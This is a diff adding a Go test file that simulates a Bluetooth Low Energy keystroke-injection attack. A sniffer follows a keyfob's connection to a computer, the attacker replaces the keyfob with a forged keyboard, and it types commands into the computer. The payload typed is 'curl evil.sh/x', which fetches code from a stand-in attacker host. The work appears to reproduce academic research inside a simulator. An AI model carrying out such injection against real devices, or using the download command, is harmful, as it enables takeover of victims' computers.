@@ -1,0 +1,85 @@
+package injectable
+
+import (
+	"strings"
+	"testing"
+
+	"injectable/internal/devices"
+	"injectable/internal/host"
+	"injectable/internal/phy"
+	"injectable/internal/sim"
+)
+
+// TestKeystrokeInjectionEndToEnd realises the paper's §IX future-work
+// attack: a computer is connected to a keyfob; the attacker expels the
+// keyfob, presents a keyboard in its place via Service Changed, and types
+// into the computer.
+func TestKeystrokeInjectionEndToEnd(t *testing.T) {
+	w := host.NewWorld(host.WorldConfig{Seed: 71})
+	fob := devices.NewKeyfob(w.NewDevice(host.DeviceConfig{
+		Name: "fob", Position: phy.Position{X: 0},
+	}))
+	computer := devices.NewComputer(w.NewDevice(host.DeviceConfig{
+		Name: "laptop", Position: phy.Position{X: 2},
+	}))
+	atk := w.NewDevice(host.DeviceConfig{
+		Name: "attacker", Position: phy.Position{X: 1, Y: 1.732},
+		ClockPPM: 20, ClockJitter: 500 * sim.Nanosecond,
+	})
+	a := NewAttacker(atk.Stack, InjectorConfig{})
+
+	a.Sniffer.Start()
+	fob.Peripheral.StartAdvertising()
+	computer.Connect(fob.Peripheral.Device.Address())
+	w.RunFor(3 * sim.Second)
+	if !a.Sniffer.Following() {
+		t.Fatal("not following")
+	}
+	if computer.HIDAttached {
+		t.Fatal("computer attached to a keyboard before the attack?")
+	}
+
+	var ki *KeystrokeInjection
+	var kerr error
+	err := a.InjectKeyboard("Logitech K380", func(k *KeystrokeInjection, err error) { ki, kerr = k, err })
+	if err != nil {
+		t.Fatal(err)
+	}
+	w.RunFor(40 * sim.Second)
+	if kerr != nil {
+		t.Fatal(kerr)
+	}
+	if ki == nil {
+		t.Fatal("keyboard injection did not settle")
+	}
+	// The Service Changed indication must have triggered rediscovery and
+	// the host's automatic HID attach.
+	if computer.Rediscoveries == 0 {
+		t.Fatal("host never rediscovered after Service Changed")
+	}
+	w.RunFor(10 * sim.Second)
+	if !ki.Attached() || !computer.HIDAttached {
+		t.Fatalf("host did not attach to the forged keyboard (rediscoveries=%d)", computer.Rediscoveries)
+	}
+
+	// Type a command. Each keystroke is a notification pair riding the
+	// hijacked connection's events.
+	const payload = "curl evil.sh/x\n"
+	if err := ki.Type(payload); err != nil {
+		t.Fatal(err)
+	}
+	w.RunFor(20 * sim.Second)
+	typed := computer.Typed.String()
+	if !strings.Contains(typed, "curl evil.sh/x") {
+		t.Fatalf("computer typed %q, want the injected command", typed)
+	}
+}
+
+// TestTypeBeforeAttachFails guards the usage contract.
+func TestTypeBeforeAttachFails(t *testing.T) {
+	kbd := devices.NewKeyboardProfile("kbd")
+	ki := &KeystrokeInjection{Keyboard: kbd}
+	if err := ki.Type("x"); err == nil {
+		t.Fatal("Type accepted without a subscribed host")
+	}
+}
